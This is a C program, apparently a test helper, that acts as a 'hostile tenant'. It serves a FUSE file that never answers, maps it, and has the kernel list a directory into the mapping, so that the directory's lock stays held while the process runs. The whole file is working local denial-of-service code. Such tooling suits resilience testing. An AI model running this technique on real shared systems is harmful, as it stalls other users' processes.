/* SPDX-License-Identifier: Apache-2.0
 *
 * A hostile tenant: hold a lock in the kernel for as long as this program runs.
 *
 *   holddirectory DIRECTORY PLACE    that of a directory
 *   holddirectory exec PLACE         that of this process, which starts a program with a page to write of a file whose
 *                                    server never answers a write
 *
 * It serves a file at PLACE by FUSE and never answers a read of it, maps that file, and has the kernel list the directory into
 * the mapping: the kernel waits for the page with the directory's lock held. It writes an empty line before that.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#define SIZE 4096

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static void answer(int device, __u64 unique, const void *content, size_t size)
{
	struct fuse_out_header head = { .len = sizeof(head) + size, .unique = unique };
	struct iovec parts[] = { { &head, sizeof(head) }, { (void *)content, size } };

	if (writev(device, parts, 2) < 0)
		perror("answer");
}

static struct fuse_attr attributes(__u64 node)
{
	return (struct fuse_attr){ .ino = node, .nlink = 1, .size = SIZE,
				   .mode = node == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFREG | 0644 };
}

static void serve(int device, int writes_wait)
{
	static char request[FUSE_MIN_READ_BUFFER + (1 << 20)];
	struct fuse_in_header *head = (struct fuse_in_header *)request;

	while (read(device, request, sizeof(request)) > 0) {
		switch (head->opcode) {
		case FUSE_INIT: {
			struct fuse_init_out out = { .major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION,
						     .max_write = SIZE };
			answer(device, head->unique, &out, sizeof(out));
			break;
		}
		case FUSE_LOOKUP: {
			struct fuse_entry_out out = { .nodeid = 2, .entry_valid = 600, .attr_valid = 600,
						      .attr = attributes(2) };
			answer(device, head->unique, &out, sizeof(out));
			break;
		}
		case FUSE_GETATTR: {
			struct fuse_attr_out out = { .attr_valid = 600, .attr = attributes(head->nodeid) };
			answer(device, head->unique, &out, sizeof(out));
			break;
		}
		case FUSE_READ: {
			static char zeros[SIZE];
			if (writes_wait)
				answer(device, head->unique, zeros, sizeof(zeros));
			break;
		}
		case FUSE_FLUSH:
			answer(device, head->unique, NULL, 0);
			break;
		case FUSE_OPEN: {
			struct fuse_open_out out = { .fh = 1 };
			answer(device, head->unique, &out, sizeof(out));
			break;
		}
		}
	}
	perror("serve");
}

int main(int count, char **arguments)
{
	int is_exec = count == 3 && !strcmp(arguments[1], "exec");
	int device = open("/dev/fuse", O_RDWR | O_CLOEXEC), directory, file;
	char options[80], path[256];
	void *page;

	if (count != 3 || device < 0)
		fail("/dev/fuse");
	mkdir(arguments[2], 0755);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", device);
	if (mount("served", arguments[2], "fuse", MS_NOSUID | MS_NODEV, options) < 0)
		fail("mount");
	if (fork() == 0) {
		serve(device, is_exec);
		return 1;
	}
	close(device); /* or nobody could end this process */
	directory = open(is_exec ? "/" : arguments[1], O_RDONLY | O_DIRECTORY);
	snprintf(path, sizeof(path), "%s/file", arguments[2]);
	file = open(path, is_exec ? O_RDWR : O_RDONLY);
	if (directory < 0 || file < 0)
		fail("open");
	page = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, is_exec ? MAP_SHARED : MAP_PRIVATE, file, 0);
	if (page == MAP_FAILED)
		fail("mmap");
	if (is_exec)
		*(volatile char *)page = 1;
	puts("");
	fflush(stdout);
	if (is_exec)
		execl("/bin/sleep", "sleep", "600", NULL);
	syscall(SYS_getdents64, directory, page, SIZE);
	return 0;
}
